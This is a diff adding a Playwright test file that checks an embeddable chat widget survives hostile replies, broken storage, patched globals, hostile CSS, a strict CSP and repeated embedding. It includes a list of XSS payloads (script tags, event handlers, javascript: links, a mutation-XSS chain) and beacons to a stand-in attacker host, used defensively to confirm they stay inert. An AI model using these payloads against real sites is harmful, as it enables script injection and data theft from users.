@@ -1,0 +1,314 @@
+// The widget inside hostile or unusual host pages: hostile replies, broken
+// storage, patched globals, aggressive CSS, a strict CSP, pages that embed
+// twice or navigate with the history API.
+import type { Page, Request } from '@playwright/test'
+import { expect, KEY, test, type Widget } from './fixtures'
+
+const FORBIDDEN = 'img, iframe, frame, script, style, link, svg, math, object, embed, video, audio, source, picture, form, input[type=image], meta, base'
+
+async function shadowFacts(page: Page) {
+  return page.evaluate((forbidden) => {
+    const root = document.querySelector('agent-chat-widget')!.shadowRoot!
+    const attrs: string[] = []
+    // Reply content only: the widget's own chrome has an svg icon and a form.
+    root.querySelectorAll('.md, .md *').forEach((el) => {
+      for (const a of Array.from(el.attributes)) if (a.name.startsWith('on')) attrs.push(el.tagName + '@' + a.name)
+    })
+    return {
+      forbidden: Array.from(root.querySelectorAll('.md')).flatMap((md) => Array.from(md.querySelectorAll(forbidden)).map((e) => e.tagName)),
+      handlers: attrs,
+      links: Array.from(root.querySelectorAll('.md a')).map((a) => ({ href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') })),
+    }
+  }, FORBIDDEN)
+}
+
+function requestsAfter(page: Page): Request[] {
+  const list: Request[] = []
+  page.on('request', (r) => list.push(r))
+  return list
+}
+
+const HOSTILE = [
+  '<script>window.__pwned = 1</script>',
+  '<img src=x onerror="window.__pwned = 2">',
+  '<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>',
+  '<iframe src="https://attacker.example/frame"></iframe>',
+  '![](https://attacker.example/?q=secret)',
+  '![logo](https://attacker.example/logo.png "title")',
+  '[click](javascript:window.__pwned=5)',
+  '[click]( JaVaScRiPt:window.__pwned=6)',
+  '[click](data:text/html,<script>alert(1)</script>)',
+  '[**bold**](vbscript:msgbox)',
+  '<a href="javascript:window.__pwned=7">x</a>',
+  '<style>@import url(https://attacker.example/x.css)</style>',
+  '<link rel=stylesheet href=https://attacker.example/y.css>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=8">',
+  '<video src=https://attacker.example/v.mp4 autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>',
+  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
+]
+
+test('hostile replies render as text and links, never run or fetch anything', async ({ page, embed, widget, mock }) => {
+  let dialogs = 0
+  page.on('dialog', (d) => {
+    dialogs++
+    void d.dismiss()
+  })
+  const attacker: string[] = []
+  await page.route('https://attacker.example/**', (route) => {
+    attacker.push(route.request().url())
+    return route.abort()
+  })
+  await page.goto(embed({ attrs: { 'collect-visitor-name': 'false' } }))
+  await widget.openButton.click()
+  mock.inject(...HOSTILE.map((text, i) => ({ fault: 'reply' as const, text, times: 1, message_includes: `attack ${i}.` })))
+  const requests = requestsAfter(page)
+  for (let i = 0; i < HOSTILE.length; i++) {
+    await widget.say(`attack ${i}.`)
+    await expect(widget.agentMessages).toHaveCount(i + 2)
+  }
+  await page.waitForTimeout(300)
+  const facts = await shadowFacts(page)
+  expect(facts.forbidden).toEqual([])
+  expect(facts.handlers).toEqual([])
+  // Images became links; links only to http(s) and with the safe rel.
+  expect(facts.links.length).toBeGreaterThanOrEqual(2)
+  for (const link of facts.links) {
+    expect(link.href).toMatch(/^https?:/)
+    expect(link.target).toBe('_blank')
+    expect(link.rel).toBe('noopener noreferrer nofollow ugc')
+  }
+  // Raw HTML is visible as text.
+  await expect(widget.agentMessages.nth(1)).toHaveText('<script>window.__pwned = 1</script>')
+  await expect(widget.agentMessages.nth(7)).toHaveText('[click](javascript:window.__pwned=5)')
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined()
+  expect(dialogs).toBe(0)
+  expect(attacker).toEqual([])
+  // Nothing but the webhook calls left the page while rendering.
+  expect(requests.map((r) => new URL(r.url()).pathname).filter((p) => p !== '/v1/webhook-chat-message')).toEqual([])
+})
+
+test('replies in markdown: lists, bold, links and bare URLs as elements', async ({ page, embed, widget }) => {
+  await page.goto(embed({ attrs: { 'collect-visitor-name': 'false' } }))
+  await widget.openButton.click()
+  await widget.say('When are you open?')
+  const hours = widget.agentMessages.last()
+  await expect(hours.locator('ul > li')).toHaveCount(3)
+  await expect(hours.locator('li strong').first()).toHaveText('Monday to Friday')
+  await widget.say('How much is a subscription?')
+  const plan = widget.agentMessages.last()
+  await expect(plan.locator('ol > li')).toHaveCount(2)
+  const link = plan.getByRole('link', { name: 'your account page' })
+  await expect(link).toHaveAttribute('href', 'https://acme-coffee.example/account')
+  await expect(link).toHaveAttribute('target', '_blank')
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc')
+  await widget.say('Do you ship?')
+  const bare = widget.agentMessages.last().getByRole('link', { name: 'https://acme-coffee.example/shipping' })
+  await expect(bare).toHaveAttribute('href', 'https://acme-coffee.example/shipping')
+  await widget.say('Can I talk to a human?')
+  await expect(widget.agentMessages.last().locator('code')).toHaveText('support@acme-coffee.example')
+  // The visitor's own markdown stays text.
+  await widget.say('**not bold** [x](https://example.com)')
+  await expect(widget.visitorMessages.last()).toHaveText('**not bold** [x](https://example.com)')
+  expect(await widget.visitorMessages.last().locator('strong, a').count()).toBe(0)
+})
+
+for (const fault of ['malformed', 'empty', 'huge'] as const) {
+  test(`a ${fault} response shows an error on that message, and the next message works`, async ({ page, embed, widget, mock }) => {
+    await page.goto(embed({ attrs: { 'collect-visitor-name': 'false' } }))
+    await widget.openButton.click()
+    mock.inject({ fault, times: 1 })
+    await widget.say('first')
+    await expect(widget.notices.last()).toHaveText(/^Sorry, .+ Please try again\.$/)
+    await expect(page.locator('agent-chat-widget .msg.visitor').last()).toHaveAttribute('data-status', 'failed')
+    await widget.say('hello')
+    await expect(widget.agentMessages.last()).toContainText('Hello!')
+    await expect(page.locator('agent-chat-widget .msg.visitor').last()).toHaveAttribute('data-status', 'sent')
+  })
+}
+
+async function chatOnce(widget: Widget) {
+  await widget.openAndStart({ name: 'Ada' })
+  await widget.say('When are you open?')
+  await expect(widget.agentMessages.last()).toContainText('Monday')
+}
+
+test('blocked localStorage (throws on access): the widget still chats', async ({ page, embed, widget }) => {
+  await page.addInitScript(() => {
+    Object.defineProperty(window, 'localStorage', {
+      get() {
+        throw new DOMException('The operation is insecure.', 'SecurityError')
+      },
+    })
+  })
+  await page.goto(embed())
+  await chatOnce(widget)
+})
+
+test('a full localStorage (QuotaExceededError): the widget still chats', async ({ page, embed, widget }) => {
+  await page.addInitScript(() => {
+    Storage.prototype.setItem = function () {
+      throw new DOMException('The quota has been exceeded.', 'QuotaExceededError')
+    }
+  })
+  await page.goto(embed())
+  await chatOnce(widget)
+  await widget.say('Do you ship?')
+  await expect(widget.agentMessages.last()).toContainText('ship')
+})
+
+test('corrupt data under our keys is reset and the widget chats', async ({ page, embed, widget }) => {
+  await page.addInitScript((key) => {
+    if (sessionStorage.getItem('seeded')) return
+    sessionStorage.setItem('seeded', '1')
+    localStorage.setItem(`agent-chat:${key}:conversation`, '{"v":1,"messages":[{"id":')
+    localStorage.setItem(`agent-chat:${key}:visitor`, '<script>alert(1)</script>')
+  }, KEY)
+  const sent: Request[] = []
+  page.on('request', (r) => r.url().endsWith('/webhook-chat-message') && r.method() === 'POST' && sent.push(r))
+  await page.goto(embed())
+  await chatOnce(widget)
+  expect(sent[0]!.postDataJSON().visitor_id).toMatch(/^v_[A-Za-z0-9_-]{22}$/)
+  const stored = await page.evaluate((key) => JSON.parse(localStorage.getItem(`agent-chat:${key}:conversation`)!), KEY)
+  expect(Array.isArray(stored.messages)).toBe(true)
+  expect(stored.messages).toHaveLength(2)
+})
+
+test('pages that patch globals: prototype.js toJSON, polluted Object.prototype, a wrapped fetch', async ({ page, embed, widget }) => {
+  const sent: Request[] = []
+  page.on('request', (r) => r.url().endsWith('/webhook-chat-message') && r.method() === 'POST' && sent.push(r))
+  const url = embed({
+    before: `<script>
+      // prototype.js 1.6 style
+      Array.prototype.toJSON = function () { return 'not an array' };
+      Object.prototype.visitor_name = 'Mallory';
+      Object.prototype.visitorName = 'Mallory';
+      Object.prototype.client_message_id = 'polluted';
+      var realFetch = window.fetch;
+      window.__wrappedCalls = 0;
+      window.fetch = function (input, init) { window.__wrappedCalls++; return realFetch.call(this, input, init) };
+    </script>`,
+  })
+  await page.goto(url)
+  await widget.openButton.click()
+  await widget.name.fill('Ada')
+  await widget.start.click()
+  await widget.say('When are you open?')
+  await expect(widget.agentMessages.last()).toContainText('Monday')
+  await widget.say('Do you ship?')
+  await expect(widget.agentMessages.last()).toContainText('ship')
+  const body = JSON.parse(sent[1]!.postData()!)
+  expect(Object.keys(body).sort()).toEqual(['message', 'page_url', 'visitor_id', 'visitor_name', 'widget_key'])
+  expect(body.visitor_name).toBe('Ada')
+  const stored = await page.evaluate((key) => {
+    const raw = localStorage.getItem(`agent-chat:${key}:conversation`)!
+    // Parse without the page's patches in the way.
+    return JSON.parse(raw) as { messages: unknown; visitorName: string }
+  }, KEY)
+  expect(Array.isArray(stored.messages)).toBe(true)
+  expect((stored.messages as unknown[]).length).toBe(4)
+  expect(stored.visitorName).toBe('Ada')
+  // The page's own patches are still in place afterwards.
+  expect(await page.evaluate(() => (Array.prototype as unknown as { toJSON: () => string }).toJSON.call([]))).toBe('not an array')
+  expect(await page.evaluate(() => (window as unknown as { __wrappedCalls: number }).__wrappedCalls)).toBe(2)
+  // A reload reads the history back correctly.
+  await page.reload()
+  await expect(widget.visitorMessages).toHaveText(['When are you open?', 'Do you ship?'])
+})
+
+test('hostile host CSS: the widget looks exactly the same', async ({ page, embed, widget }) => {
+  await page.clock.setFixedTime(new Date('2026-03-02T10:15:00Z'))
+  const hostile = `<style>
+    * { font-size: 44px !important; letter-spacing: 6px !important; line-height: 3 !important; }
+    div, button { display: none !important; }
+    html { font-size: 62.5%; direction: rtl; }
+    body { direction: rtl; text-align: right; color: red; font-family: "Comic Sans MS", cursive; }
+    agent-chat-widget { transform: scale(0.5); }
+  </style>`
+  const shoot = async (head: string) => {
+    await page.evaluate(() => localStorage.clear()).catch(() => {})
+    await page.goto(embed({ head, body: '<main><p>host</p></main>' }))
+    await widget.openAndStart({ name: 'Ada' })
+    await widget.say('How much is a subscription?')
+    await expect(widget.agentMessages.last().locator('ol > li')).toHaveCount(2)
+    await widget.message.blur()
+    // The panel itself, inset past its rounded corners (where the host page shows through).
+    const box = (await widget.dialog.boundingBox())!
+    const inset = 12
+    return {
+      box,
+      shot: await page.screenshot({ clip: { x: box.x + inset, y: box.y + inset, width: box.width - 2 * inset, height: box.height - 2 * inset }, animations: 'disabled' }),
+    }
+  }
+  const clean = await shoot('')
+  const attacked = await shoot(hostile)
+  expect(attacked.box).toEqual(clean.box)
+  expect(attacked.shot.equals(clean.shot)).toBe(true)
+})
+
+test('a strict CSP: only script-src and connect-src for the widget origin, no inline, no eval', async ({ page, embed, widget, mock }) => {
+  await page.addInitScript(() => {
+    const w = window as unknown as { __violations: string[] }
+    w.__violations = []
+    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`), true)
+  })
+  const csp = `default-src 'none'; script-src ${mock.origin}; connect-src ${mock.origin}`
+  await page.goto(embed({ headers: { 'Content-Security-Policy': csp } }))
+  await chatOnce(widget)
+  await widget.say('How much is a subscription?')
+  await expect(widget.agentMessages.last().locator('ol > li')).toHaveCount(2)
+  // Styles applied (the launcher is round and coloured), with no style-src at all.
+  await expect(widget.launcher).toHaveCSS('border-radius', '50%')
+  await expect(widget.launcher).toHaveCSS('background-color', 'rgb(99, 102, 241)')
+  await page.reload()
+  await expect(widget.visitorMessages).toHaveCount(2)
+  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([])
+})
+
+test('the embed pasted twice and the loader run twice: one widget, one conversation', async ({ page, embed, widget, mock, consoleMessages }) => {
+  const sent: Request[] = []
+  page.on('request', (r) => r.url().endsWith('/webhook-chat-message') && r.method() === 'POST' && sent.push(r))
+  const url = embed({ before: `<script src="${mock.origin}/loader.js" data-widget-key="${KEY}" async></script>` })
+  await page.goto(url)
+  await chatOnce(widget)
+  // Run the loader once more, as a tag manager might.
+  await page.evaluate((src) => {
+    const s = document.createElement('script')
+    s.src = src
+    s.dataset['widgetKey'] = 'wgt_demo_acme_coffee'
+    document.body.appendChild(s)
+    return new Promise((resolve) => (s.onload = resolve))
+  }, `${mock.origin}/loader.js`)
+  await page.waitForTimeout(300)
+  expect(await page.locator('agent-chat-widget').count()).toBe(1)
+  expect(sent).toHaveLength(1)
+  expect(consoleMessages.filter((m) => m.type() === 'warning' && m.text().includes('already loaded'))).toHaveLength(2)
+})
+
+test('single-page navigation with the history API keeps one widget and reports the new page', async ({ page, embed, widget }) => {
+  const sent: Request[] = []
+  page.on('request', (r) => r.url().endsWith('/webhook-chat-message') && r.method() === 'POST' && sent.push(r))
+  await page.goto(embed({ path: '/app/home' }))
+  await chatOnce(widget)
+  await page.evaluate(() => {
+    history.pushState({}, '', '/app/pricing?tab=2')
+    document.querySelector('main')!.innerHTML = '<h1>Pricing</h1>'
+  })
+  await widget.say('Do you ship?')
+  await expect(widget.agentMessages.last()).toContainText('ship')
+  await page.goBack()
+  expect(await page.locator('agent-chat-widget').count()).toBe(1)
+  expect(sent.map((r) => new URL(r.postDataJSON().page_url).pathname)).toEqual(['/app/home', '/app/pricing'])
+})
+
+test('back/forward navigation restores one widget with the conversation', async ({ page, embed, widget, host }) => {
+  await page.goto(embed({ path: '/bf/one.html' }))
+  await chatOnce(widget)
+  await page.goto(host.set('/bf/two.html', { html: '<!doctype html><title>two</title><p>no widget here</p>' }))
+  await page.goBack()
+  await expect(widget.dialog).toBeVisible()
+  expect(await page.locator('agent-chat-widget').count()).toBe(1)
+  await expect(widget.visitorMessages).toHaveText(['When are you open?'])
+  await page.goForward()
+  await page.goBack()
+  expect(await page.locator('agent-chat-widget').count()).toBe(1)
+})
